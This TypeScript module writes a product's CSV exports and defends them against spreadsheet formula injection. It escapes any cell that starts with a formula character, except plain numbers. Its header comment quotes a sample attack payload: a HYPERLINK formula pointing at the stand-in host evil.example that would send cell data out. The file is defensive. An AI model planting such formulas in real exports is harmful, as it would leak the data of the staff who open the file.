/**
 * The one CSV writer of the product: the bookings and customers exports and the KPI summary all go
 * through csvDocument, and nothing else imports csv-stringify (eslint enforces it). The web writes no CSV.
 *
 * CSV (formula) injection, OWASP's rule: a spreadsheet runs a cell that starts with `=`, `+`, `-`, `@`,
 * tab or carriage return as a formula, so a guest named `=HYPERLINK("http://evil.example/?x="&C2,"x")`
 * would send a staff member's data away when the export is opened. Such a cell is prefixed with a single
 * quote `'` (the spreadsheet then shows it as text); the rest of the cell is kept as it is, and
 * csv-stringify's quoting still applies to the result.
 *
 * Which cells: every cell (headers too: the KPI summary's headers carry lot names), whatever its column,
 * so that a new column cannot forget it. The one exception is a cell that is a plain decimal number
 * (`-12.50`, `-3`): that is no formula in any spreadsheet, whoever typed it, and money the server formats
 * (a negative adjustment, a refund) must stay a number to add up. `-1+1`, `-1e3`, `-A1` are not plain and
 * are neutralised.
 */
import { stringify } from 'csv-stringify/sync';

export type CsvCell = string | number | boolean | null | undefined;

/** The first characters that make a spreadsheet read a cell as a formula (OWASP). */
const FORMULA_START = /^[=+\-@\t\r]/;
/** A number and nothing else: no formula. */
const PLAIN_NUMBER = /^-?\d+(\.\d+)?$/;

/** The cell as a spreadsheet shows it as text: prefixed with `'` when it would be read as a formula. */
export function neutraliseCsvCell(text: string): string {
  return FORMULA_START.test(text) && !PLAIN_NUMBER.test(text) ? `'${text}` : text;
}

function cellText(cell: CsvCell): string {
  if (cell === null || cell === undefined) return '';
  if (typeof cell === 'boolean') return cell ? 'yes' : 'no';
  return neutraliseCsvCell(String(cell));
}

/** Rows (the header first) as CSV text, every cell neutralised. */
export function csvDocument(rows: ReadonlyArray<readonly CsvCell[]>): string {
  return stringify(rows.map((row) => row.map(cellText)));
}
